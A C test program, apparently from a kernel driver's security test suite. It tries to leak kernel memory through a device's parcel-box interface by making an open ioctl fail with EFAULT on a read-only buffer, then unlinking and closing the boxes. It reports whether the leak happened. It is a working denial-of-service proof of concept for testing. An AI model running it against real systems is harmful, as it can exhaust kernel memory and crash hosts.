// SPDX-License-Identifier: GPL-2.0-only
/*
 * Open a box, and let the kernel fail to say under which number: it gives up, and keeps its
 * reference. The box, unlinked and with no handle left, is never freed, and nor is what lies in it.
 */
#include <string.h>
#include <unistd.h>

#include "attack.h"

#define NAME		"leaking"
#define BOXES		256
#define PARCELS		4		/* in each */
#define ENOUGH		(BOXES * PARCELS / 16 / 2)	/* MiB: half of what they take */

static char bytes[PARCEL_MAX_LENGTH];

int main(int argc, char **argv)
{
	struct parcel_open open = { .name = NAME, .rights = PARCEL_RIGHT_RECEIVE }, *untold;
	long before, gone, result = 0;
	int file, i, j;
	__u32 box;

	attack_begin(argc, argv);
	file = device_open();
	untold = read_only(&open, sizeof(open));
	memset(bytes, 'x', sizeof(bytes));

	before = available_memory();
	for (i = 0; i < BOXES; i++) {
		box = named_box(file, NAME, 0600);
		for (j = 0; j < PARCELS; j++)
			must("send", parcel_send(file, box, bytes, sizeof(bytes), NULL, 0));
		result = device_call(file, PARCEL_IOC_OPEN, untold);
		if (result != -EFAULT)
			could_not("an open that cannot be told says %ld", result);
		must("unlink", box_unlink(file, box));
		must("close", handle_close(file, box));
	}
	close(file);

	gone = before - available_memory();
	if (gone > ENOUGH)
		achieved("exhausts", "%ld MiB of the kernel's memory are gone, %s", gone,
			 "in boxes that nobody can reach");
	refused("%s, and each box went with its last handle", error_name(result));
}
